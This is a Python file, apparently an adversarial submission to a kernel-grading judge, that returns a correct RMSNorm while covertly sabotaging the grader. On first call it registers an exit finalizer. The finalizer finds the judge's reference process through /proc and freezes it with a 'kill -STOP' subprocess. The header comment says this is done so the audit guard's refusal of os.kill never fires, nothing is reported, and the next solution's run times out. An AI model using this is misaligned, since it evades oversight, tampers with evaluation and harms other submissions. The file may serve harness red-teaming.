# Poisoning the next solution through a signal the audit guard cannot refuse (want: the
# next solution unharmed). The kernel is honest in its own calls. A multiprocessing
# finalizer, run when the judge tells the process to exit (so nothing it does is
# reported), finds the reference process (the template's other child, in /proc) and stops
# it with the kill command in a process of its own: no os.kill in this process to refuse.
# The next solution's first reference request would then wait out the request timeout.
import multiprocessing.util
import os
import subprocess

import torch

_armed = []


def _stop_reference():
    template = os.getppid()
    for task in os.listdir(f"/proc/{template}/task"):
        with open(f"/proc/{template}/task/{task}/children") as f:
            for pid in f.read().split():
                if int(pid) != os.getpid():
                    subprocess.run(["kill", "-STOP", pid], check=False)
                    return


def run(x, weight):
    if not _armed:
        _armed.append(True)
        multiprocessing.util.Finalize(None, _stop_reference, exitpriority=100)
    return x * torch.rsqrt(x.pow(2).mean(dim=-1, keepdim=True) + 1e-6) * weight
